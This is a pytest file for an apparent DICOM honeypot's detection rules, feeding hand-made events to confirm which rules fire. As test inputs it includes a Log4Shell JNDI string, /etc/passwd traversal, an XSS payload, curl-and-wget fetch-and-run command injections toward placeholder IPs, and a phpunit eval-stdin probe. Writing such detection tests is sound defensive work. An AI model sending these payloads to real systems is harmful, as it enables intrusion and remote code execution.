"""Each pattern of the rules, where no recorded sample shows it, with events made by hand; and what comes near it."""

from __future__ import annotations

from typing import Any

import pytest

from dicomhawk.analyst.techniques import Rules
from dicomhawk.analyst.techniques.patterns import Compiled
from tests.analyst.made_events import SHA256, asked, downloaded, event, left, listed, requested
from tests.analyst.test_techniques import NOISE, SAMPLES, sample

RULES = Rules.load()
NAME, IDENTIFIER, DATE, MODALITIES = "00100010", "00100020", "00080020", "00080061"
STUDY, SERIES = "0020000D", "0020000E"
LOG4SHELL = "${jndi:ldap://198.51.100.7/a}"

Events = list[dict[str, Any]]
Case = tuple[str, Events, dict[str, Any]]


def case(rule: str, *events: dict[str, Any]) -> Case:
    return rule, list(events), {}


def file(rule: str, *ids: str, **more: Any) -> Case:
    return rule, *left(*ids, **more)


def orthanc_id(number: int) -> str:
    return "-".join([f"{number:08x}"] * 5)


def archived(at: float, patient: str, instances: int = 3) -> dict[str, Any]:
    """All that there is of a patient, sent in one file."""
    return event(
        "web.retrieve",
        at,
        event__outcome="success",
        honeypot__web__what="archive",
        honeypot__web__instances=instances,
        dicom__query__level="PATIENT",
        dicom__patient__id=patient,
    )


def refused(name: str) -> dict[str, Any]:
    return event("dicom.n-command", dicom__command__name=name)


def associated(at: float, class_uid: str) -> dict[str, Any]:
    return event("dicom.association", at, dicom__implementation__class_uid=class_uid)


def dribbled(at: float, sent: int, got: int = 0, seconds: int = 48) -> dict[str, Any]:
    """A connection that its visitor left after so long."""
    more = {"source__bytes": sent} | ({"destination__bytes": got} if got else {})
    return event("connection.close", at, event__reason="peer-fin", event__duration=seconds * 10**9, **more)


SEEN: list[Case] = [
    case("D06", *(event("dicom.association.reject", n, dicom__ae__calling=f"WS{n}") for n in range(6))),
    case("D08", *(listed(100, n) for n in range(3))),
    case("D08", asked("STUDY", {NAME: "", DATE: "19000101-20991231"})),
    case("D09", *(asked("STUDY", {NAME: f"{letter}*"}, n) for n, letter in enumerate("ABCDE"))),
    case(
        "D09",
        *(asked("STUDY", {MODALITIES: kind, NAME: ""}, n) for n, kind in enumerate(["CT", "MR", "US", "CR", "MG"])),
    ),
    case("D11", *(asked("SERIES", {STUDY: f"1.2.{n}", SERIES: ""}, n) for n in range(10))),
    case("D11", *(listed(2, n, level="SERIES", keys={STUDY: f"1.2.{n}"}) for n in range(10))),
    case("D11", *(requested("GET", f"/studies/{orthanc_id(n)}/series", n) for n in range(20))),
    case("D12", *(archived(n, f"P{n}") for n in range(5))),
    case("D12", *(archived(n, "P1", instances=700) for n in range(3))),
    case("D12", asked("PATIENT", {IDENTIFIER: "*"}, action="dicom.c-get")),
    case("D12", asked("PATIENT", {IDENTIFIER: "P1\\P2"}, action="dicom.c-get")),
    case("D12", *(event("dicom.c-get.end", n, dicom__suboperations__completed=700) for n in range(3))),
    case("D12", *(downloaded(n) for n in range(10))),
    case("D13", refused("C-MOVE-RQ")),
    case("D14", event("dicom.c-store", dicom__dataset__bytes=60)),
    case("D16", event("web.change", honeypot__web__call="modify")),
    case("D17", requested("GET", "/instances/..%2f..%2fetc%2fpasswd")),
    file("D17", "text.traversal"),
    case("D18", requested("GET", "/dicom-web/studies?PatientName=%3Cscript%3Ealert(1)%3C/script%3E")),
    file("D18", "text.xss"),
    case("D19", requested("GET", "/dicom-web/studies", 0, f"User-Agent: {LOG4SHELL}")),
    case("D19", requested("GET", "/", 0, f"X-Api-Version: {LOG4SHELL}")),
    case("D19", event("protocol.unknown", honeypot__first_line=LOG4SHELL)),
    file("D19", "text.jndi"),
    file("D20", "text.sql"),
    case("D21", requested("GET", "/wado?requestType=WADO&studyUID=1;curl%20http://198.51.100.7/a|sh")),
    file("D21", "text.command"),
    file("D22", "bomb.zip"),
    case("D23", event("dicom.violation", dicom__violation__quirk="pdu-too-long", dicom__violation__state="Sta6")),
    case("D23", event("http.malformed", honeypot__web__fault="body-length")),
    case("D23", requested("POST", "/instances", 0, "Content-Length: 4294967296")),
    case("D24", *(dribbled(n, sent=90) for n in range(10))),
    case("D24", *(event("http.malformed", n, honeypot__web__fault="head-timeout") for n in range(10))),
    case(
        "D24",
        *(
            event("connection.close", n, dicom__client__after_ac="silent_fin", event__duration=30_000_000_000)
            for n in range(20)
        ),
    ),
    case("D25", *(associated(n, f"1.2.{letter}") for n, letter in enumerate("abcde"))),
    file("D25", *(f"structure.{each}" for each in ("uid", "bits", "number", "frames", "samples"))),
    case("D28", *(event("dicom.association", n, honeypot__credential__username=f"u{n}") for n in range(5))),
    case(
        "D29", *(requested("GET", path, n) for n, path in enumerate(("/system", "/statistics", "/studies", "/info/")))
    ),
    case("D29", *(listed(5, n, dicom__query__offset=5 * n, keys={IDENTIFIER: "A"}) for n in range(3))),
    case("D29", *(requested("GET", f"/wado?requestType=WADO&objectUID=1.{n}", n) for n in range(10))),
    case("D29", *(downloaded(n, "wado-rs", "metadata") for n in range(10))),
    case("D30", event("web.store", file__mime_type="application/x-httpd-php")),
    case("D30", requested("POST", "/dicom-web/studies", http__request__mime_type="multipart/related; boundary=x")),
    file("D30", "type.pe", type="PE"),
    case("D32", event("web.change", honeypot__web__call="bulk-delete")),
    case("D32", requested("POST", "/dcm4chee-arc/aets/DCM4CHEE/rs/studies/1.2/reject/113039%5EDCM")),
    case("D33", requested("POST", "/", http__request__mime_type="application/hl7-v2+er7")),
    case("D36", requested("PUT", "/x.jsp/")),
    case("D36", *(event("http.response", n, http__response__status_code=404) for n in range(60))),
    case("D37", event("lure.hit", honeypot__lure__kind="document")),
    case("D37", event("lure.reused", honeypot__lure__kind="uid")),
    case("D37", event("lure.taken", honeypot__lure__kind="credential", honeypot__lure__detail="adm.pacs")),
    case("D37", event("lure.taken", honeypot__lure__kind="route", honeypot__lure__detail="/bak/")),
    case("D37", event("lure.taken", honeypot__lure__kind="route", honeypot__lure__detail="/.git/config")),
]

SPRAYED = requested("POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", http__request__body__hash__sha256=SHA256)

UNSEEN: list[Case] = [
    *((rule, [SPRAYED], left("type.php", "text.command", "yara.webshell_php")[1]) for rule in ("D15", "D21", "D30")),
    case("D06", *(event("dicom.association", 61 * n, dicom__ae__calling=f"WS{n}") for n in range(9))),
    case("D08", listed(101)),
    case("D08", *(listed(200, n, keys={IDENTIFIER: "P1"}) for n in range(3))),
    case("D08", asked("STUDY", {NAME: "", DATE: "20260101-20260131"})),
    case("D08", asked("SERIES", {STUDY: ""})),
    case("D09", *(asked("STUDY", {NAME: f"{letter}*"}, n) for n, letter in enumerate("MILLE"))),
    case("D11", *(asked("SERIES", {STUDY: f"1.2.{n}", SERIES: ""}, n) for n in range(6))),
    case("D11", *(listed(2, n, level="SERIES", keys={STUDY: f"1.2.{n % 5}"}) for n in range(20))),
    case(
        "D11",
        requested("GET", "/app/explorer.html"),
        *(requested("GET", f"/studies/{orthanc_id(n)}", n) for n in range(1, 40)),
    ),
    case("D12", *(archived(n, "P1") for n in range(9))),
    case("D12", asked("STUDY", {STUDY: "1.2.3"}, action="dicom.c-get")),
    case("D12", *(asked("STUDY", {STUDY: "1.2.3"}, n, action="dicom.c-get") for n in range(9))),
    case("D12", event("dicom.c-get.end", dicom__suboperations__completed=1500)),
    case("D12", *(downloaded(n, "portal", "rendered") for n in range(30))),
    case("D13", refused("C-FIND-RQ")),
    case("D25", *(associated(n, "1.2.276.0 ") for n in range(9))),
    case(
        "D14", event("dicom.c-store", dicom__dataset__bytes=524_000, dicom__sop__instance_uid="1.2.840.113619.2.55")
    ),
    file("D15", "polyglot.tiff", severity=0),
    file("D15", "polyglot.php", type="multipart body + PHP"),
    file("D16", "tampering.returned", severity=0),
    case("D17", requested("GET", "/../../../../etc/passwd")),
    case("D21", requested("GET", "/cgi-bin/luci/;stok=/locale?country=$(id>`wget%20http://198.51.100.9/a`)")),
    case("D22", requested("GET", "/instances", 0, "Accept-Encoding: gzip, deflate")),
    file("D22", "bomb.nested", severity=2),
    case("D23", event("dicom.violation", dicom__violation__quirk="pdu-too-long", dicom__violation__state="Sta2")),
    case("D23", requested("POST", "/instances", 0, "Content-Length: 524288")),
    case("D24", *(dribbled(n, sent=0) for n in range(30))),
    case("D24", *(dribbled(n, sent=90, got=300) for n in range(30))),
    case("D24", *(dribbled(n, sent=90, seconds=5) for n in range(30))),
    case("D24", *(event("connection.close", n, event__reason="timeout", source__bytes=0) for n in range(50))),
    file("D25", "structure.uid", "structure.trailing"),
    file("D26", "codec.precision-differs", severity=0),
    case("D28", *(event("http.login", 20 * n, event__outcome="failure") for n in range(9))),
    case(
        "D29",
        requested("GET", "/app/explorer.html"),
        *(requested("GET", path, n) for n, path in enumerate(("/system", "/plugins", "/patients"), 1)),
    ),
    case("D29", requested("GET", "/dicom-web/studies"), listed(5, keys={IDENTIFIER: "A"})),
    case(
        "D30",
        requested("POST", "/dicom-web/studies", http__request__mime_type="multipart/related"),
        event("web.store", honeypot__connection="c0.0", file__mime_type="application/dicom"),
    ),
    case("D31", requested("POST", "/tools/find"), requested("POST", "/tools/lookup", 1)),
    case("D31", event("web.change", honeypot__web__face="portal", honeypot__web__call="settings")),
    case("D32", *(event("web.change", n, honeypot__web__call="delete", honeypot__web__target="x") for n in range(5))),
    case("D34", requested("GET", "/dicom-web/studies/1.2/metadata"), requested("GET", "/patients", 1)),
    case("D35", requested("POST", "/api/v1/login", http__request__mime_type="application/json")),
    case("D38", event("dicom.c-find")),
]


def names(cases: list[Case]) -> list[str]:
    return [f"{rule}-{number}" for number, (rule, _, _) in enumerate(cases)]


@pytest.mark.parametrize("one", SEEN, ids=names(SEEN))
def test_seen(one: Case) -> None:
    rule, events, files = one
    assert rule in [match.rule for match in RULES.match(events, files)]


@pytest.mark.parametrize("one", UNSEEN, ids=names(UNSEEN))
def test_not_seen(one: Case) -> None:
    rule, events, files = one
    assert rule not in [match.rule for match in RULES.match(events, files)]


def test_bait_that_everybody_looks_for_counts_little() -> None:
    def severity(**fields: str) -> int:
        taken = event("lure.taken", **{f"honeypot__lure__{name}": value for name, value in fields.items()})
        (match,) = (each for each in RULES.match([taken], {}) if each.rule == "D37")
        return match.severity

    assert severity(kind="route", detail="/.env") == 1
    assert severity(kind="route", detail="/bak/dicom_nodes.txt") == 3
    assert severity(kind="credential", detail="adm.pacs") == 4


def test_every_pattern_is_seen_somewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = set()
    weigh = Compiled.weigh

    def noted(self: Compiled, *given: Any) -> Any:
        found = weigh(self, *given)
        if found is not None:
            seen.add(id(self.pattern))
        return found

    monkeypatch.setattr(Compiled, "weigh", noted)
    for path in (*SAMPLES.glob("*.ndjson"), *NOISE.glob("*.ndjson")):
        RULES.match(*sample(path))
    for _, events, files in SEEN:
        RULES.match(events, files)
    unseen = [(rule.id, pattern.tell) for rule in RULES.all for pattern in rule.pattern if id(pattern) not in seen]
    assert not unseen
